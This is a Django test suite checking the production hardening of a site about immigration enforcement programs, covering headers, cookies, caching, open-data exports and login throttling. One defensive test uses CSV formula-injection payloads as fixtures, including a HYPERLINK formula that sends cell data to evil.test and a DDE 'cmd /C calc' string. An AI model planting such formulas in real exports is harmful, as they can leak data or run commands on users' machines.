"""Production: check --deploy, security headers scored like the HTTP Observatory, cookies,
static files through the production storage, HTTP caching, page weight and open data."""

import csv
import http.client
import io
import json
import os
import re
import socket
import subprocess
import sys

import brotli
import pytest
from django.conf import settings
from django.core.management import call_command
from django.test import Client

from programs.models import GlossaryTerm, Program, Question, Source

from .conftest import PAGE_TYPES, replace_in

pytestmark = pytest.mark.django_db


def test_check_deploy_passes_with_production_settings():
    # As a deployment would run: no debug, and not the browser tests' async-unsafe switch.
    skip = {"DJANGO_DEBUG", "DJANGO_ALLOW_ASYNC_UNSAFE"}
    env = {k: v for k, v in os.environ.items() if k not in skip}
    env |= {
        "DJANGO_SECRET_KEY": "x" * 20 + "a-long-random-production-key-for-tests",
        "DJANGO_ALLOWED_HOSTS": "ero.example.org",
        "DJANGO_SITE_URL": "https://ero.example.org",
    }
    result = subprocess.run(
        [sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
        cwd=settings.BASE_DIR,
        env=env,
        capture_output=True,
        text=True,
    )
    assert result.returncode == 0, result.stdout + result.stderr


# --- Headers, scored by the HTTP Observatory's published rules -------------------------------
def csp_directives(header: str) -> dict[str, list[str]]:
    directives = {}
    for part in header.split(";"):
        name, *values = part.split()
        directives[name] = values
    return directives


def observatory_score(response) -> tuple[int, list[str]]:
    """Base 100, with the Observatory's modifiers for each test (only those that apply here)."""
    score, notes = 100, []
    csp = response.headers.get("Content-Security-Policy")
    if not csp:
        score, notes = score - 25, [*notes, "csp-not-implemented"]
    else:
        d = csp_directives(csp)
        unsafe = any(v in {"'unsafe-inline'", "'unsafe-eval'"} for vs in d.values() for v in vs)
        if unsafe:
            score -= 10
        elif d.get("default-src") == ["'none'"]:
            score, notes = score + 10, [*notes, "csp-implemented-with-no-unsafe-default-src-none"]
        if d.get("frame-ancestors") == ["'none'"]:
            score, notes = score + 5, [*notes, "x-frame-options-implemented-via-csp"]
    if response.headers.get("Referrer-Policy") in {
        "no-referrer",
        "same-origin",
        "strict-origin",
        "strict-origin-when-cross-origin",
    }:
        score, notes = score + 5, [*notes, "referrer-policy-private"]
    hsts = re.search(r"max-age=(\d+)", response.headers.get("Strict-Transport-Security", ""))
    if not hsts or int(hsts.group(1)) < 15_768_000:
        score, notes = score - 20, [*notes, "hsts-not-implemented-or-short"]
    if response.headers.get("X-Content-Type-Options") != "nosniff":
        score, notes = score - 5, [*notes, "x-content-type-options-not-implemented"]
    if response.headers.get("X-Frame-Options") not in {"DENY", "SAMEORIGIN"} and not csp:
        score, notes = score - 20, [*notes, "x-frame-options-not-implemented"]
    for cookie in response.cookies.values():
        if not cookie["secure"]:
            score, notes = score - 20, [*notes, "cookies-without-secure-flag"]
    html = (
        response.content.decode(errors="replace")
        if response.get("Content-Type", "").startswith("text/html")
        else ""
    )
    if re.search(r'<script[^>]+src="(https?:)?//', html):
        score, notes = score - 5, [*notes, "sri-not-implemented-external-scripts"]
    return score, notes


@pytest.fixture
def production(settings):
    settings.SECURE_SSL_REDIRECT = True
    return Client()


@pytest.mark.parametrize("path", [*PAGE_TYPES.values(), "/search/?q=FOT", "/admin/login/"])
def test_every_page_type_scores_a_plus(production, path):
    response = production.get(path, secure=True)
    assert response.status_code == 200
    score, notes = observatory_score(response)
    assert score >= 100, (score, notes)
    assert (
        response.headers["Strict-Transport-Security"]
        == "max-age=31536000; includeSubDomains; preload"
    )
    assert response.headers["X-Frame-Options"] == "DENY"
    assert response.headers["Cross-Origin-Opener-Policy"] == "same-origin"
    assert response.headers["Cross-Origin-Resource-Policy"] == "same-origin"
    for feature in ("camera=()", "microphone=()", "geolocation=()"):
        assert feature in response.headers["Permissions-Policy"]


def test_csp_allows_only_what_pages_need():
    d = csp_directives(Client().get("/").headers["Content-Security-Policy"])
    assert d["default-src"] == ["'none'"] and d["object-src"] == ["'none'"]
    assert d["base-uri"] == ["'none'"] and d["form-action"] == ["'self'"]
    assert d["frame-ancestors"] == ["'none'"]
    assert all("unsafe" not in v for values in d.values() for v in values)


def test_plain_http_redirects_to_https(production):
    response = production.get("/programs/")
    assert response.status_code == 301 and response["Location"] == "https://testserver/programs/"


def test_behind_a_proxy_forwarded_https_is_trusted(settings):
    settings.SECURE_SSL_REDIRECT = True
    settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")
    response = Client().get("/", headers={"X-Forwarded-Proto": "https"})
    assert response.status_code == 200


def test_anonymous_visits_set_no_cookies(production):
    for path in [*PAGE_TYPES.values(), "/search/?q=bond", "/glossary/?q=CAP"]:
        assert not production.get(path, secure=True).cookies, path


def test_admin_cookies_are_secure_httponly_and_samesite(production, django_user_model):
    django_user_model.objects.create_user("e", password="pw-for-tests-only", is_staff=True)
    page = production.get("/admin/login/", secure=True)
    csrf = page.cookies["csrftoken"]
    assert csrf["secure"] and csrf["samesite"] == "Lax"
    response = production.post(
        "/admin/login/?next=/admin/",
        {"username": "e", "password": "pw-for-tests-only", "csrfmiddlewaretoken": csrf.value},
        secure=True,
    )
    session = response.cookies["sessionid"]
    assert session["secure"] and session["httponly"] and session["samesite"] == "Lax"


# --- Static files through the production storage ---------------------------------------------
@pytest.fixture(scope="module")
def collected(static_export):
    """The public pages' static files as `collectstatic` writes them with the production
    storage (hashed, compressed, with its manifest): build_site's run of it."""
    return static_export / "static"


@pytest.fixture
def production_static(settings, collected):
    settings.STATIC_ROOT = collected
    settings.STORAGES = {
        **settings.STORAGES,
        "staticfiles": {"BACKEND": "whitenoise.storage.CompressedManifestStaticFilesStorage"},
    }
    return Client()


def assets_of(html: str) -> list[str]:
    return re.findall(r'(?:href|src)="(/static/[^"]+)"', html)


@pytest.mark.parametrize("path", PAGE_TYPES.values(), ids=PAGE_TYPES.keys())
def test_pages_render_with_collected_hashed_files(production_static, path):
    html = production_static.get(path).content.decode()
    assets = assets_of(html)
    assert assets and all(re.search(r"\.[0-9a-f]{12}\.(css|js|svg)$", a) for a in assets), assets
    for asset in assets:
        response = production_static.get(asset)
        assert response.status_code == 200
        assert response["Cache-Control"] == "max-age=315360000, public, immutable"


@pytest.mark.parametrize("path", [*PAGE_TYPES.values(), "/search/?q=fugitive"])
def test_first_visit_weighs_at_most_100_kb_and_html_25_kb(production_static, path):
    # As a current browser asks for it, and as it is served: brotli.
    response = production_static.get(path, headers={"Accept-Encoding": "gzip, deflate, br"})
    assert response["Content-Encoding"] == "br"
    html_size = len(response.content)
    assert html_size <= 25_000, f"{path}: HTML is {html_size} bytes compressed"
    html = brotli.decompress(response.content).decode()
    total = html_size
    for asset in set(assets_of(html)):
        served = production_static.get(asset, headers={"Accept-Encoding": "gzip, deflate, br"})
        assert served["Content-Encoding"] == "br"
        total += len(b"".join(served.streaming_content))
    assert total <= 100_000, f"{path}: first visit is {total} bytes"


def test_static_files_honour_accept_encoding_q_values(production_static):
    css = assets_of(production_static.get("/").content.decode())[-1]
    for header, expected in [
        ("gzip, deflate, br", "br"),
        ("br;q=0, gzip", "gzip"),
        ("br;q=0.5, gzip;q=0.9", "gzip"),
        ("br;q=0", None),
    ]:
        served = production_static.get(css, headers={"Accept-Encoding": header})
        assert served.status_code == 200
        assert served.get("Content-Encoding") == expected, header


# --- HTTP caching ------------------------------------------------------------------------------
@pytest.fixture
def page_cache(settings):
    settings.PAGE_CACHE = True
    settings.CONTENT_VERSION_TTL = 0  # read the version on every request: no timing in tests
    return Client()


def test_public_pages_send_validators_and_cdn_friendly_cache_control(page_cache):
    response = page_cache.get("/programs/rapid-repat/")
    assert response["Cache-Control"] == "public, max-age=300"
    etag = response["ETag"]
    assert (
        page_cache.get("/programs/rapid-repat/", headers={"If-None-Match": etag}).status_code == 304
    )


def test_a_load_changes_the_page_and_its_validator(page_cache, content_copy):
    first = page_cache.get("/programs/rapid-repat/")
    path = content_copy / "programs" / "rapid-repat.md"
    replace_in(path, "summary: ", "summary: Reloaded. ")
    call_command("load_content", content_dir=str(content_copy))
    second = page_cache.get("/programs/rapid-repat/")
    assert "Reloaded." in second.content.decode() and "Reloaded." not in first.content.decode()
    assert second["ETag"] != first["ETag"]


def test_pages_come_from_the_cache_until_content_changes(page_cache, django_assert_max_num_queries):
    page_cache.get("/programs/rapid-repat/")
    with django_assert_max_num_queries(1):  # the version check
        assert page_cache.get("/programs/rapid-repat/").status_code == 200


def test_admin_pages_are_not_cached_or_compressed(page_cache):
    response = page_cache.get("/admin/login/", headers={"Accept-Encoding": "gzip"})
    assert "Content-Encoding" not in response
    assert "no-cache" in response["Cache-Control"] or "private" in response["Cache-Control"]


# --- Canonical links, Open Graph, open data ----------------------------------------------------
@pytest.mark.parametrize("path", PAGE_TYPES.values(), ids=PAGE_TYPES.keys())
def test_canonical_and_open_graph_on_every_page(client, path):
    html = client.get(path).content.decode()
    assert f'<link rel="canonical" href="https://ero.example.org{path}">' in html
    for prop in ("og:title", "og:description", "og:url", "og:type", "og:site_name"):
        assert f'<meta property="{prop}" content="' in html


@pytest.mark.parametrize(
    ("name", "model"),
    [("programs", Program), ("glossary", GlossaryTerm), ("faq", Question), ("sources", Source)],
)
def test_open_data_matches_the_database(client, name, model):
    data = json.loads(client.get(f"/data/{name}.json").content)
    assert {row["slug"] for row in data} == set(model.objects.values_list("slug", flat=True))
    csv_text = client.get(f"/data/{name}.csv").content.decode()
    assert csv_text.count("\n") >= len(data) + 1
    if name == "programs":
        nfop = next(r for r in data if r["slug"] == "national-fugitive-operations-program")
        db = Program.objects.get(slug="national-fugitive-operations-program")
        assert nfop["title"] == db.title and nfop["body"] == db.body
        assert [f["quote"] for f in nfop["facts"]] == [f.quote for f in db.facts.all()]
        assert set(nfop["sources"]) == {s.source_id for s in db.sources.all()}


def test_about_links_the_open_data(client):
    html = client.get("/about/").content.decode()
    for name in ("programs", "glossary", "faq"):
        assert f'href="/data/{name}.json"' in html and f'href="/data/{name}.csv"' in html


FORMULAS = {
    "title": '=HYPERLINK("https://evil.test/?"&A1,"Click")',
    "summary": "+1+cmd|' /C calc'!A0",
    "body": "- item one\n- item two",
    "acronym": "@SUM(1+1)",
}


def test_csv_cells_a_spreadsheet_would_run_are_text_and_json_is_exact(client):
    program = Program.objects.get(slug="rapid-repat")
    for field, value in FORMULAS.items():
        setattr(program, field, value)
    program.save()
    other = Program.objects.get(slug="deport-center")
    other.summary, other.body = "\tTabbed", "\rReturned"
    other.save()
    rows = {
        r["slug"]: r
        for r in csv.DictReader(io.StringIO(client.get("/data/programs.csv").content.decode()))
    }
    for field, value in FORMULAS.items():
        assert rows["rapid-repat"][field] == "'" + value, field
    assert rows["deport-center"]["summary"] == "'\tTabbed"
    assert rows["deport-center"]["body"] == "'\rReturned"
    # Every cell: nothing starts like a formula.
    assert not [v for row in rows.values() for v in row.values() if v[:1] in "=+-@\t\r" and v]
    data = {r["slug"]: r for r in json.loads(client.get("/data/programs.json").content)}
    for field, value in FORMULAS.items():
        assert data["rapid-repat"][field] == value, field
    assert data["deport-center"]["summary"] == "\tTabbed"


# --- The site's address ------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("site_url", "hosts", "expected"),
    [
        ("https://ero.example.org", ["ero.example.org"], set()),
        ("http://ero.example.org", ["ero.example.org"], {"programs.W001"}),
        ("https://ero.example.org", ["other.example.org"], {"programs.W002"}),
        ("https://[::1]:8443", ["[::1]"], set()),
        ("ero.example.org", ["ero.example.org"], {"programs.E001"}),
        ("https://ero.example.org/site/", ["ero.example.org"], {"programs.E001"}),
    ],
)
def test_site_url_is_checked(settings, site_url, hosts, expected):
    from django.core import checks

    settings.SITE_URL, settings.ALLOWED_HOSTS = site_url, hosts
    found = checks.run_checks(include_deployment_checks=True)
    assert {m.id for m in found if m.id.startswith("programs.")} == expected


def test_build_site_refuses_a_base_url_that_is_not_an_address(tmp_path):
    from django.core.management.base import CommandError

    with pytest.raises(
        CommandError, match=re.escape("--base-url: 'ero.example.org' is not an http")
    ):
        call_command("build_site", output=str(tmp_path / "site"), base_url="ero.example.org")
    assert not (tmp_path / "site").exists()


# --- X-Forwarded-Proto -------------------------------------------------------------------------
def test_forwarded_https_is_not_trusted_without_a_proxy(settings):
    settings.SECURE_SSL_REDIRECT = True
    response = Client().get("/", headers={"X-Forwarded-Proto": "https"})
    assert response.status_code == 301 and response["Location"].startswith("https://")


def scheme_seen_by_gunicorn(forwarded_proto: str) -> str:
    """Start gunicorn as `make prod` does (with ./gunicorn.conf.py) on a socket that already
    listens, so the request waits in its queue until gunicorn accepts it; no polling."""
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        fd = listener.fileno()
        server = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "gunicorn",
                "-c",
                "gunicorn.conf.py",
                "--bind",
                f"fd://{fd}",
                "--workers",
                "1",
                "tests.wsgi_echo:app",
            ],
            cwd=settings.BASE_DIR,
            pass_fds=[fd],
            stderr=subprocess.DEVNULL,
        )
        try:
            conn = http.client.HTTPConnection(*listener.getsockname(), timeout=30)
            conn.request("GET", "/", headers={"X-Forwarded-Proto": forwarded_proto})
            return conn.getresponse().read().decode()
        finally:
            server.terminate()
            server.wait(timeout=30)


def test_gunicorn_takes_x_forwarded_proto_from_no_one():
    # gunicorn's own default believes it from 127.0.0.1, where any local client sits.
    assert scheme_seen_by_gunicorn("https") == "http"


# --- Editor accounts ---------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("password", "why"),
    [
        ("Sh0rt!pw", "too short"),
        ("password1234", "too common"),
        ("482019375610", "entirely numeric"),
        ("maria.editor.2026", "too similar"),
    ],
)
def test_weak_editor_passwords_are_refused(django_user_model, password, why):
    from django.contrib.auth.password_validation import validate_password
    from django.core.exceptions import ValidationError

    user = django_user_model(username="maria.editor", email="maria.editor@example.org")
    with pytest.raises(ValidationError, match=why):
        validate_password(password, user)
    validate_password("correct horse battery staple", user)


def admin_login(client, password, address="192.0.2.10"):
    return client.post(
        "/admin/login/?next=/admin/",
        {"username": "e", "password": password},
        REMOTE_ADDR=address,
    )


def test_admin_logins_are_throttled(django_user_model):
    django_user_model.objects.create_user("e", password="the-right-password", is_staff=True)
    guesser = Client()
    for n in range(4):
        response = admin_login(guesser, f"guess-{n}")
        assert response.status_code == 200 and "sessionid" not in response.cookies
    assert admin_login(guesser, "guess-4").status_code == 429  # the fifth failure locks
    # Locked out: even the right password is refused now, from that address, for that name.
    locked = admin_login(guesser, "the-right-password")
    assert locked.status_code == 429 and "sessionid" not in locked.cookies
    # The editor, elsewhere, still gets in.
    editor = admin_login(Client(), "the-right-password", address="198.51.100.7")
    assert editor.status_code == 302 and "sessionid" in editor.cookies
